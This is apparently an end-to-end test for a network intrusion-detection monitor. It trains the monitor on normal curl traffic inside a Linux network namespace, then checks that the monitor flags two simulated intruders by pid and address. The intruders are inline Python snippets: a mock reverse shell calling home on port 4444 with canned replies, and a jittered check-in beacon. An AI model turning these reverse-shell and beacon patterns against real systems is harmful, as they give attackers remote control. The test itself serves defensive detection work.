/**
 * The traffic model end to end: the real monitor (`portent run`, one-second rounds standing for
 * minutes, capture on one end of a veth pair whose other end lives in a network namespace this
 * test creates) learns a machine whose only traffic into the namespace is `curl` fetching a page
 * from a known web server every few seconds; then two intruders start at once, and each must
 * become a traffic incident naming its process (pid) and the address it calls:
 * - a reverse shell: `python3` (as root) connects to a new address on 4444 and holds the line,
 *   answering the commands it is sent;
 * - a beacon: `python3` (as nobody, so another process identity than the shell) checks in with a
 *   second new address every four seconds, ±15 %, with a short connection each time.
 * Every address is inside the namespace; nothing leaves this machine. Needs root (namespaces,
 * capture, a process started as nobody) and python3 and curl.
 *
 * Timing: the traffic model scores but never learns the first 60 rounds (warm-up), learns for
 * the learning period (one "hour" = 60 rounds, the shortest setting) and calibrates its threshold
 * on held-out windows only (one window in eight, by the id of its last round: with windows of 10
 * rounds counted from the first round, the first held-out window after the warm-up ends at round
 * 170). The intruders start once the saved traffic model has a threshold, so none of their
 * windows is learned or calibrated on. About three and a half minutes in all.
 */
import { execFileSync, spawn, spawnSync, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exitOf, repoRoot, runCli, startCli, waitForOutput } from '../../support/cli';
import { tempDir } from '../../support/tmp';

const NS = `portent-tl${process.pid}`;
const HOST_IF = `plh${process.pid % 100000}`;
const NS_IF = `pln${process.pid % 100000}`;
const HOST_ADDR = '10.213.8.1';
/** The web server the machine normally fetches from. */
const WEB = { address: '10.213.8.2', port: 8080 };
/** Where the reverse shell calls home. */
const SHELL_HOME = { address: '10.213.8.3', port: 4444 };
/** Where the beacon checks in. */
const BEACON_HOME = { address: '10.213.8.4', port: 8443 };
const NOBODY = 65534;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
/** No child of this test outlives this many seconds, whatever happens to the test. */
const LIFETIME_S = 420;

/**
 * A python3 interpreter that root and nobody can both run, by its real path (not a version
 * manager's shim, so that the pid is the interpreter's and its name is python3).
 */
function python(): string | null {
  const found = spawnSync('python3', ['-c', 'import sys; print(sys.executable)'], { encoding: 'utf8' });
  const candidates = [...(found.status === 0 ? [found.stdout.trim()] : []), '/usr/bin/python3'];
  return candidates.find((p) => path.basename(p) === 'python3' && spawnSync(p, ['-c', 'pass'], { cwd: '/', uid: NOBODY, gid: NOBODY }).status === 0) ?? null;
}
const PYTHON = process.platform === 'linux' ? python() : null;

function unavailable(): string | null {
  if (process.platform !== 'linux') return 'network namespaces are Linux-only';
  if (process.getuid?.() !== 0) return 'needs root for network namespaces, capture and a process run as nobody';
  if (spawnSync('ip', ['-V']).status !== 0) return 'iproute2 (ip) is not installed';
  if (!PYTHON) return 'no python3 that root and nobody can both run';
  if (spawnSync('curl', ['--version']).status !== 0) return 'curl is not installed';
  const probe = spawnSync('ip', ['netns', 'add', `${NS}-probe`]);
  if (probe.status !== 0) return `cannot create a network namespace here: ${String(probe.stderr).trim()}`;
  spawnSync('ip', ['netns', 'del', `${NS}-probe`]);
  return null;
}
const why = unavailable();

const ip = (...args: string[]) => execFileSync('ip', args, { stdio: ['ignore', 'ignore', 'pipe'] });

/**
 * The namespace's three servers, in one node process: the web server answers a request 1.2 s
 * after it came; the shell's handler sends a command every two seconds and reads the answers;
 * the beacon's handler answers a check-in after 1.2 s and hangs up. The delays keep every
 * connection open across at least one scan, so the socket table names its process (a
 * connection that opens and closes between two scans keeps none: docs/connections.md).
 */
const SERVERS = `
  const net = require('net');
  const listen = (where, handler) => new Promise((ok) => net.createServer(handler).listen(where.port, where.address, ok));
  const later = (s, ms, f) => { const t = setTimeout(f, ms); s.on('close', () => clearTimeout(t)); };
  const quiet = (s) => s.on('error', () => {});
  Promise.all([
    listen(${JSON.stringify(WEB)}, (s) => { quiet(s); s.once('data', () => later(s, 1200, () => s.end('HTTP/1.0 200 OK\\r\\nContent-Length: 3\\r\\n\\r\\nok\\n'))); }),
    listen(${JSON.stringify(SHELL_HOME)}, (s) => { quiet(s); s.resume(); const t = setInterval(() => s.write('id\\n'), 2000); s.on('close', () => clearInterval(t)); }),
    listen(${JSON.stringify(BEACON_HOME)}, (s) => { quiet(s); s.once('data', () => later(s, 1200, () => s.end('sleep 4\\n'))); }),
  ]).then(() => console.log('ready'));
  process.stdin.on('end', () => process.exit(0)).resume();
  setTimeout(() => process.exit(0), ${LIFETIME_S * 1000});`;

/** Connects home, prints its local port, then answers every command it is sent. */
const REVERSE_SHELL = `
import socket, sys, time
end = time.time() + ${LIFETIME_S}
s = socket.create_connection((${JSON.stringify(SHELL_HOME.address)}, ${SHELL_HOME.port}))
s.settimeout(1)
print(s.getsockname()[1], flush=True)
while time.time() < end:
    try:
        cmd = s.recv(4096)
    except socket.timeout:
        continue
    if not cmd:
        break
    s.sendall(b'uid=0(root) gid=0(root) groups=0(root)\\n')
`;

/** Checks in every 4 s ± 15 %: connect, ask for a task, read the answer, hang up. */
const BEACON = `
import random, socket, time
end = time.time() + ${LIFETIME_S}
print('ready', flush=True)
while time.time() < end:
    try:
        with socket.create_connection((${JSON.stringify(BEACON_HOME.address)}, ${BEACON_HOME.port}), timeout=5) as s:
            s.sendall(b'GET /task HTTP/1.0\\r\\n\\r\\n')
            while s.recv(4096):
                pass
    except OSError:
        pass
    time.sleep(4 * random.uniform(0.85, 1.15))
`;

/** The first line a child prints. */
function firstLine(child: ChildProcess): Promise<string> {
  return new Promise((resolve, reject) => {
    child.stdout!.once('data', (d: Buffer) => resolve(String(d).trim().split('\n')[0]!));
    child.once('exit', (code) => reject(new Error(`exited with ${code} before it was ready`)));
    child.once('error', reject);
  });
}

function stop(child: ChildProcess | undefined): Promise<unknown> {
  if (!child || child.exitCode !== null || child.signalCode !== null) return Promise.resolve();
  const exited = new Promise((resolve) => child.once('exit', resolve));
  child.stdin?.end();
  child.kill('SIGKILL');
  return exited;
}

/** The saved traffic model's threshold (null while learning or before the first save). */
function trafficThreshold(file: string): number | null {
  try {
    const m = JSON.parse(fs.readFileSync(file, 'utf8')) as { threshold: number | null; roundsSeen: number };
    return m.threshold;
  } catch {
    return null;
  }
}

interface Told {
  id: number;
  kind: string;
  trafficKind: string | null;
  process: string | null;
  user: string | null;
  sentence: string;
  peakScore: number;
  threshold: number;
  endpoints: { address: string; port: number; direction: string; newForProcess: number }[];
}

/** Traffic incidents and the remote ends they name. */
function trafficIncidents(db: Database.Database): Told[] {
  const rows = db
      .prepare<[], Omit<Told, 'endpoints'>>(
        `SELECT i.id, i.kind, i.traffic_kind AS trafficKind, p.name AS process, p.user, i.sentence, i.peak_score AS peakScore, i.threshold
         FROM incidents i LEFT JOIN processes p ON p.id = i.process_id WHERE i.kind IN ('traffic', 'both') ORDER BY i.id`,
      )
      .all();
    const endpoints = db.prepare<[number], Told['endpoints'][number]>(
      'SELECT address, port, direction, new_for_process AS newForProcess FROM incident_endpoints WHERE incident_id = ? ORDER BY rank',
    );
  return rows.map((r) => ({ ...r, endpoints: endpoints.all(r.id) }));
}

/** The same, read-only beside the running monitor. */
function trafficIncidentsIn(file: string): Told[] {
  const db = new Database(file, { readonly: true });
  try {
    return trafficIncidents(db);
  } finally {
    db.close();
  }
}

/** An incident that names `pid` in its sentence and `home` among its remote ends. */
const naming = (told: readonly Told[], pid: number, home: { address: string; port: number }) =>
  told.find((t) => t.sentence.includes(`python3 (pid ${pid})`) && t.endpoints.some((e) => e.address === home.address && e.port === home.port));

describe.skipIf(why !== null)(`traffic incidents end to end through a network namespace (${why ?? 'root, ip netns, capture on a veth pair, python3, curl'})`, () => {
  const children: ChildProcess[] = [];
  let fetcher: NodeJS.Timeout | undefined;
  let fetching = true;
  let file: string;
  let monitor: ReturnType<typeof startCli> | undefined;
  let db: Database.Database | undefined;
  let shell: ChildProcess;
  let beacon: ChildProcess;
  let told: Told[] = [];
  let timing = '';

  beforeAll(async () => {
    const began = Date.now();
    ip('netns', 'add', NS);
    ip('link', 'add', HOST_IF, 'type', 'veth', 'peer', 'name', NS_IF);
    ip('link', 'set', NS_IF, 'netns', NS);
    ip('addr', 'add', `${HOST_ADDR}/24`, 'dev', HOST_IF);
    ip('link', 'set', HOST_IF, 'up');
    for (const a of [WEB, SHELL_HOME, BEACON_HOME]) ip('netns', 'exec', NS, 'ip', 'addr', 'add', `${a.address}/24`, 'dev', NS_IF);
    ip('netns', 'exec', NS, 'ip', 'link', 'set', NS_IF, 'up');
    ip('netns', 'exec', NS, 'ip', 'link', 'set', 'lo', 'up');
    const servers = spawn('ip', ['netns', 'exec', NS, process.execPath, '-e', SERVERS], { cwd: repoRoot, stdio: ['pipe', 'pipe', 'inherit'] });
    children.push(servers);
    expect(await firstLine(servers)).toBe('ready');

    const dir = tempDir();
    file = path.join(dir, 'portent.db');
    const modelFile = path.join(dir, 'traffic-model.json');
    expect(runCli(['config', 'set', 'detection.learningHours', '1', '--db', file]).status).toBe(0);
    monitor = startCli(['run', '--round-seconds', '1', '--detect-every', '10', '--db', file, '--iface', HOST_IF]);
    const exit = exitOf(monitor);
    try {
      await waitForOutput(monitor.stderr, /"msg":"packet capture on"/);
      // The machine's usual traffic: a page from the web server every 2 to 4 seconds.
      const fetchOnce = () => {
        if (!fetching) return;
        const c = spawn('curl', ['-s', '-o', '/dev/null', '-m', '5', `http://${WEB.address}:${WEB.port}/`], { stdio: 'ignore' });
        children.push(c);
        c.once('exit', () => {
          const i = children.indexOf(c);
          if (i >= 0) children.splice(i, 1);
        });
        fetcher = setTimeout(fetchOnce, 2000 + Math.random() * 2000);
      };
      fetchOnce();

      // Learning: warm-up, learning period, then the first threshold (about 170 rounds).
      const learnedBy = Date.now() + 260_000;
      while (Date.now() < learnedBy && trafficThreshold(modelFile) === null) await sleep(1000);
      const learnedAfter = Date.now() - began;
      expect(trafficThreshold(modelFile), 'the traffic model never left learning').not.toBeNull();

      shell = spawn(PYTHON!, ['-c', REVERSE_SHELL], { cwd: '/', stdio: ['ignore', 'pipe', 'inherit'] });
      children.push(shell);
      beacon = spawn(PYTHON!, ['-c', BEACON], { cwd: '/', uid: NOBODY, gid: NOBODY, stdio: ['ignore', 'pipe', 'inherit'] });
      children.push(beacon);
      await Promise.all([firstLine(shell), firstLine(beacon)]);

      // Two complete windows of each, and the detections after them, at most.
      const attackedAt = Date.now();
      const toldBy = Date.now() + 45_000;
      while (Date.now() < toldBy) {
        told = trafficIncidentsIn(file);
        if (naming(told, shell.pid!, SHELL_HOME) && naming(told, beacon.pid!, BEACON_HOME)) break;
        await sleep(1000);
      }
      timing = `learned after ${Math.round(learnedAfter / 1000)} s, told ${Math.round((Date.now() - attackedAt) / 1000)} s after the intruders started, ${Math.round((Date.now() - began) / 1000)} s in all`;
    } finally {
      fetching = false;
      clearTimeout(fetcher);
      monitor.kill('SIGTERM');
    }
    expect((await exit).code).toBe(0);
    // Kept open: the folder goes after the first test.
    db = new Database(file, { readonly: true });
    told = trafficIncidents(db);
    console.info(`${timing}\n${told.map((t) => `  [${t.trafficKind}] ${t.sentence} (score ${t.peakScore.toFixed(1)} > ${t.threshold.toFixed(1)})`).join('\n')}`);
  }, 330_000);

  afterAll(async () => {
    db?.close();
    await stop(monitor);
    fetching = false;
    clearTimeout(fetcher);
    await Promise.all([...children].map(stop));
    spawnSync('ip', ['netns', 'del', NS]);
    spawnSync('ip', ['link', 'del', HOST_IF]);
  });

  /** Each window of a process the traffic model scored, for a failure's message. */
  const scoresOf = (pid: number) =>
    db!
      .prepare(
        `SELECT w.first_round_id AS first, w.last_round_id AS last, round(w.score, 2) AS score, round(w.threshold, 2) AS threshold, w.anomalous, w.held_out AS heldOut
         FROM traffic_windows w WHERE w.process_id IN (SELECT DISTINCT process_id FROM connection_spans WHERE pid = ?) ORDER BY w.last_round_id`,
      )
      .all(pid);

  it('tells the reverse shell: python3 with its pid, and the address it holds a line to', () => {
    const t = naming(told, shell.pid!, SHELL_HOME);
    expect(t, `no traffic incident names python3 (pid ${shell.pid}) and ${SHELL_HOME.address}:${SHELL_HOME.port}; its windows: ${JSON.stringify(scoresOf(shell.pid!))}; incidents: ${JSON.stringify(told)}`).toBeDefined();
    expect(t).toMatchObject({ process: 'python3', user: 'root' });
    expect(t!.endpoints[0]).toMatchObject({ address: SHELL_HOME.address, port: SHELL_HOME.port, direction: 'out', newForProcess: 1 });
  });

  it('tells the beacon: python3 run by nobody with its pid, and the address it checks in with', () => {
    const t = naming(told, beacon.pid!, BEACON_HOME);
    expect(t, `no traffic incident names python3 (pid ${beacon.pid}) and ${BEACON_HOME.address}:${BEACON_HOME.port}; its windows: ${JSON.stringify(scoresOf(beacon.pid!))}; incidents: ${JSON.stringify(told)}`).toBeDefined();
    expect(t).toMatchObject({ process: 'python3', user: 'nobody' });
    expect(t!.endpoints[0]).toMatchObject({ address: BEACON_HOME.address, port: BEACON_HOME.port, direction: 'out' });
  });
});
